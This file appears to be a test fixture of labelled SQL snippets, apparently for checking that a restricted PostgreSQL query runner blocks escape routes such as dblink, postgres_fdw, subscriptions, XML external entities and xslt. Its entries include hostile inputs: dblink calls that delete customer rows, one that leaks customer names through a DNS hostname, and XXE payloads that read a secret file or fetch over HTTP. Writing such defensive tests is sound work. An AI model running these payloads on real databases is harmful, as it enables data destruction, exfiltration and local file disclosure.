--# dblink
select * from dblink('dbname=trap', 'delete from customers returning id') t(id int)
--# dblink_exec
select dblink_exec('dbname=trap user=postgres', 'delete from customers')
--# dblink_connect
select dblink_connect('out', 'host=127.0.0.1 port=1')
--# dblink_connect_u
select dblink_connect_u('out', 'dbname=trap')
--# dblink_send_query
select dblink_send_query('out', 'delete from customers')
--# dblink_open
select dblink_open('out', 'select 1')
--# dblink_get_result
select * from dblink_get_result('out') t(id int)
--# dblink_build_sql_delete
select dblink_build_sql_delete('customers', '1', 1, array['1'])
--# dblink in a CTE
with out as (select * from dblink('dbname=trap', 'select leave_volatile(''dblink'')') t(b boolean)) select * from out
--# dblink, qualified
select * from public.dblink('dbname=trap', 'select leave_volatile(''dblink'')') t(b boolean)
--# dblink with a long host
select dblink_connect('host=' || (select string_agg(name, '.') from customers) || '.example.org')
--# dblink as a field
select ('dbname=trap'::text).dblink_connect
--# postgres_fdw table; refused
select * from remote_marks
--# postgres_fdw table joined; refused
select * from customers c join remote_marks m on true
--# postgres_fdw connections
select postgres_fdw_disconnect_all()
--# postgres_fdw connections, listed
select * from postgres_fdw_get_connections()
--# subscription
create subscription left_behind connection 'host=192.0.2.1' publication p
--# external entity
select xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file://«dir»/secret.txt">]><a>&x;</a>')
--# external entity over the network
select xmlparse(document '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1:1/x">%x;]><a/>')
--# external entity in xpath
select xpath('/a/text()', xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file://«dir»/secret.txt">]><a>&x;</a>'))
--# xslt
select xslt_process('<a/>', '<x/>')
--# xml2 table; refused
select * from xpath_table('id', 'body', 'articles', '/a', 'leave_volatile(''xpath'')') as t(id int, x text)
